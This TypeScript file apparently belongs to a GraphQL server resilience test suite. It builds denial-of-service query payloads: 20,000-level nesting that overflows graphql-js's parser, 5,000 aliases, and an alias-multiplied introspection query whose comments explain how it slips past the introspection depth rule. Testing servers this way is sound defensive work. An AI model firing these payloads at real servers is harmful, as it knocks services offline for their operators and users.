import type { Attack, AttackContext } from './types';
import { cpuForOperations, judgedByCpu, linear } from './validationCost';
import { ANSWER_MS, exchange, hasResponseHead, jsonPost, statusOf } from './wire';

/** Sends a query whole; held when the server answers (or closes) within ANSWER_MS. */
const answeredWithin = async ({ target, from }: AttackContext, query: string) => {
  const request = jsonPost(target.graphqlPath, { query }, target.headers);
  const answer = await exchange({ port: target.port, from, request, until: hasResponseHead });
  if (answer.timedOut)
    return { held: false, detail: `no answer within ${ANSWER_MS / 1000} s to ${(query.length / 1024).toFixed(0)} kB` };
  return { held: true, detail: answer.head ? `answered ${statusOf(answer.head)}` : 'closed' };
};

const aliased = (count: number, selection: string) =>
  Array.from({ length: count }, (_, index) => `a${index}: ${selection}`).join(' ');

/**
 * Introspection multiplied by aliases, on any schema (730 bytes, 221 tokens): four aliases of
 * `__schema { types }`, each type's `fields` under four aliases, and below each field's type (and
 * the two types it wraps) four more aliases of `fields`. Two levels of introspection lists, so
 * graphql-js's MaxIntrospectionDepthRule passes it, and every field is valid; the result grows
 * with the cube of the aliases (on a one-field schema, 456 kB for 64 ms of graphql 16.15.0's CPU;
 * fifteen aliases, 24 MB and seconds), all of it built before any check of the response's size.
 */
export const INTROSPECTION_BY_ALIASES = (() => {
  const typeFields = (below: string) =>
    aliased(4, `fields { type { ${below} ofType { ${below} ofType { ${below} } } } }`);
  const fragments = [
    `fragment F0 on __Type { ${typeFields('...F1')} }`,
    `fragment F1 on __Type { ${typeFields('...F2')} }`,
    'fragment F2 on __Type { name }',
  ];
  return `{ ${aliased(4, '__schema { types { ...F0 } }')} } ${fragments.join(' ')}`;
})();

/** Query shapes that cost a parser or validator more than their size: deep nesting, many tokens. */
export const queryCostAttacks: Attack[] = [
  {
    // 20,000 levels overflow graphql-js's recursive parser: a RangeError, not a GraphQLError.
    name: 'query-deep-nesting',
    family: 'query-cost',
    run: (context) => answeredWithin(context, `${'{ a '.repeat(20_000)}${'}'.repeat(20_000)}`),
  },
  {
    name: 'query-many-aliases',
    family: 'query-cost',
    run: (context) =>
      answeredWithin(context, `{ ${Array.from({ length: 5000 }, (_, index) => `a${index}: __typename`).join(' ')} }`),
  },
  {
    // Judged by the server's CPU, as validation's cost is: a server that builds the result spends
    // 10 times the bound on each request, one that estimates its size first refuses it.
    name: 'query-introspection-aliases',
    family: 'query-cost',
    run: (context) => judgedByCpu(context, INTROSPECTION_BY_ALIASES, linear(221)),
  },
  {
    // The same over WebSocket, where a server's HTTP side (a 404, say) does not see it.
    name: 'query-introspection-aliases-ws',
    family: 'query-cost',
    run: (context) => judgedByCpu(context, INTROSPECTION_BY_ALIASES, linear(221), cpuForOperations),
  },
];
